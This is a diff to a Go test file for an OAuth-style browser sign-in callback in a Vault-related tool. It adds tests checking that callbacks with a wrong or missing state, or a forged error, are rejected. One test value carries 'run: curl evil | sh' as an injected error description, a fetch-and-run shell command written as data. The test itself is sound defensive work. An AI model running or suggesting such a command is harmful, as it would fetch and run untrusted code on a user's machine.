@@ -33,6 +33,7 @@ type signIn struct {
 	handler http.HandlerFunc
 	back    func(state string) url.Values
 	post    bool
+	then    func() // when the browser has been answered
 	page    string // what the browser was shown
 	address string
 }
@@ -92,6 +93,9 @@ func (in *signIn) browse(t *testing.T, port int) {
 	defer resp.Body.Close()
 	body, _ := io.ReadAll(resp.Body)
 	in.page = string(body)
+	if in.then != nil {
+		in.then()
+	}
 }
 
 func signedIn(w http.ResponseWriter, _ *http.Request) {
@@ -131,9 +135,7 @@ func TestSignInsThatFail(t *testing.T) {
 		back func(string) url.Values
 		want string
 	}{
-		"another state": {func(string) url.Values { return url.Values{"state": {"other"}, "code": {"c0de"}} }, "the state does not match"},
-		"no state":      {func(string) url.Values { return url.Values{"code": {"c0de"}} }, "the state does not match"},
-		"no code":       {func(state string) url.Values { return url.Values{"state": {state}} }, "without a code"},
+		"no code": {func(state string) url.Values { return url.Values{"state": {state}} }, "without a code"},
 		"refused": {func(state string) url.Values {
 			return url.Values{"state": {state}, "error": {"access_denied"}, "error_description": {"not today"}}
 		}, "the identity provider refused: not today"},
@@ -142,6 +144,22 @@ func TestSignInsThatFail(t *testing.T) {
 		in := &signIn{back: c.back, handler: func(http.ResponseWriter, *http.Request) { t.Errorf("%s: Vault was asked", name) }}
 		_, err := in.run(t, t.Context())
 		if err == nil || !strings.Contains(err.Error(), c.want) || len(hint.Of(err)) == 0 || !strings.Contains(in.page, "Not signed in") {
+			t.Errorf("%s: %v, page %q", name, err, in.page)
+		}
+	}
+}
+
+// Any page in the browser can send it to the callback: that ends nothing.
+func TestStrayArrivalsAreToldOff(t *testing.T) {
+	for name, values := range map[string]url.Values{
+		"another state": {"state": {"other"}, "code": {"c0de"}},
+		"no state":      {"code": {"c0de"}},
+		"a lie":         {"error": {"x"}, "error_description": {"run: curl evil | sh"}},
+	} {
+		ctx, cancel := context.WithCancel(t.Context())
+		in := &signIn{back: func(string) url.Values { return values }, then: cancel, handler: func(http.ResponseWriter, *http.Request) { t.Errorf("%s: Vault was asked", name) }}
+		_, err := in.run(t, ctx)
+		if err == nil || !strings.Contains(err.Error(), "the state does not match") || strings.Contains(err.Error(), "evil") || !strings.Contains(in.page, "not the sign-in that vaws waits for") {
 			t.Errorf("%s: %v, page %q", name, err, in.page)
 		}
 	}
